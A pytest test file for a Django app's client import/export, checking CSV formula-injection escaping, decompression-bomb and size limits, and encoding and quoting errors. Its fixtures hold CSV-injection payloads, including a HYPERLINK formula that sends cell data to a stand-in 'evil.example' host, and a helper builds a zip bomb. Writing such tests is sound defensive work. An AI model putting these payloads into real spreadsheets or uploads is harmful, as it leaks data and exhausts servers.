"""Files from outside, read and written safely: formula cells, bombs, sizes, encodings, quotes."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse

from retainops.clients import transfer
from retainops.clients.models import Client
from retainops.clients.testing import ClientFactory
from retainops.clients.tests.test_transfer import CLIENT_HEADER, client_row, csv_bytes, xlsx_bytes
from retainops.core.spreadsheets import csv_safe, write_csv
from retainops.core.testing import ApiCaller, UserFactory

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1 555 0100 Holdings",
    "-2+3 Media",
    "@SUM(1+1) Studio",
    "\r=cmd Partners",
]


@pytest.fixture
def importer(north):
    return UserFactory.create(username="dana_dm", roles=["department_manager"], units=[north])


def _post(caller: ApiCaller, content: bytes, filename: str, dry_run: bool = False):
    upload = SimpleUploadedFile(filename, content)
    return caller.http.post(
        f"/api/v1/imports/clients?dry_run={str(dry_run).lower()}",
        {"file": upload},
        headers=caller.headers,
    )


# CSV injection ------------------------------------------------------------------------------


def test_csv_export_neutralises_every_formula_like_cell(importer, north):
    for name in FORMULA_NAMES:
        ClientFactory.create(name=name, business_unit=north)
    exported = transfer.export_clients(user=importer, fmt="csv").content.decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(exported))][1:]
    assert len(names) == len(FORMULA_NAMES)
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r")), name
    assert "'=HYPERLINK" in exported and "'+1 555" in exported and "'@SUM" in exported


def test_a_neutralised_export_imports_back_unchanged(importer, north):
    ClientFactory.create(name=FORMULA_NAMES[0], business_unit=north, external_id="X-1")
    exported = transfer.export_clients(user=importer, fmt="csv").content
    report = transfer.run_import(
        kind="clients", content=exported, filename="clients.csv", by=importer, dry_run=False
    )
    assert report.ok and report.unchanged == 1
    assert Client.objects.get(external_id="X-1").name == FORMULA_NAMES[0]


def test_the_xlsx_export_stores_formula_like_text_as_text(importer, north):
    ClientFactory.create(name=FORMULA_NAMES[0], business_unit=north)
    exported = transfer.export_clients(user=importer, fmt="xlsx").content
    cell = openpyxl.load_workbook(io.BytesIO(exported)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", FORMULA_NAMES[0])


def test_every_csv_writer_leaves_numbers_alone_and_escapes_text() -> None:
    out = io.StringIO()
    write_csv(out, [["=1+1", -5, "-5", "plain", "\t=x"]])
    assert out.getvalue().strip() == "'=1+1,-5,'-5,plain,'\t=x"
    assert csv_safe(-5) == -5


# Sizes and bombs ----------------------------------------------------------------------------


def _bomb(padding_bytes: int) -> bytes:
    """A real workbook whose sheet is padded with whitespace: tiny zipped, huge unzipped."""
    rows: list[list[object]] = [list(CLIENT_HEADER), list(client_row("Harbor"))]
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(rows)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * padding_bytes)
            bomb.writestr(item.filename, data)
    return out.getvalue()


def test_a_decompression_bomb_is_refused_before_it_is_opened(importer):
    bomb = _bomb(30 * 1024 * 1024)
    assert len(bomb) < 200 * 1024
    response = _post(ApiCaller(importer), bomb, "clients.xlsx")
    assert response.status_code == 413
    assert "unpacks to" in response.json()["errors"][0]["message"]
    assert not Client.objects.exists()


@override_settings(IMPORT_MAX_UNCOMPRESSED_BYTES=64 * 1024, IMPORT_MAX_COMPRESSION_RATIO=10_000)
def test_a_workbook_over_the_unpacked_limit_is_refused(importer):
    report = transfer.run_import(
        kind="clients", content=_bomb(200 * 1024), filename="c.xlsx", by=importer, dry_run=True
    )
    assert report.too_large
    assert "more than the 0.0625 MB allowed" in report.errors[0].message


@override_settings(IMPORT_MAX_BYTES=2048)
def test_an_upload_over_the_size_limit_answers_413_on_api_and_page(client, importer):
    big = csv_bytes([CLIENT_HEADER] + [client_row(f"Client {i}") for i in range(100)])
    response = _post(ApiCaller(importer), big, "clients.csv")
    assert response.status_code == 413
    assert "larger than" in response.json()["errors"][0]["message"]
    client.force_login(importer)
    page = client.post(
        reverse("clients:import"),
        {"kind": "clients", "action": "import", "file": SimpleUploadedFile("c.csv", big)},
    )
    assert page.status_code == 413
    assert b"larger than" in page.content
    assert not Client.objects.exists()


@override_settings(IMPORT_MAX_ROWS=3)
def test_a_file_over_the_row_limit_is_refused(importer):
    rows = [CLIENT_HEADER] + [client_row(f"Client {i}") for i in range(4)]
    response = _post(ApiCaller(importer), csv_bytes(rows), "clients.csv")
    assert response.status_code == 413
    assert "more than 3 rows" in response.json()["errors"][0]["message"]
    assert not Client.objects.exists()


# Encodings and quoting ----------------------------------------------------------------------


def test_a_file_that_is_not_utf8_is_refused_with_its_line(importer):
    content = "name,business_unit\nHarbor,north\nCafé Lumière,north\n".encode("cp1252")
    response = _post(ApiCaller(importer), content, "clients.csv")
    assert response.status_code == 422
    message = response.json()["errors"][0]["message"]
    assert "not UTF-8" in message and "line 3" in message and "0xE9" in message
    assert not Client.objects.exists()


def test_utf16_with_its_mark_is_read(importer):
    content = "name,business_unit\nCafé Lumière,north\n".encode("utf-16")
    report = transfer.run_import(
        kind="clients", content=content, filename="c.csv", by=importer, dry_run=False
    )
    assert report.ok
    assert Client.objects.get().name == "Café Lumière"


def test_an_unclosed_quote_is_named_with_its_line(importer):
    content = b'name,business_unit\nHarbor,north\n"Cedar Auto,north\nDelta,north\n'
    response = _post(ApiCaller(importer), content, "clients.csv")
    assert response.status_code == 422
    error = response.json()["errors"][0]
    assert error["row"] is None and error["column"] == ""
    assert "Line 3 opens a quoted cell" in error["message"]
    assert not Client.objects.exists()


def test_a_stray_character_after_a_closing_quote_is_named(importer):
    content = b'name,business_unit\n"Harbor"x,north\n'
    report = transfer.run_import(
        kind="clients", content=content, filename="c.csv", by=importer, dry_run=True
    )
    assert "Line 2 has broken quoting" in report.errors[0].message
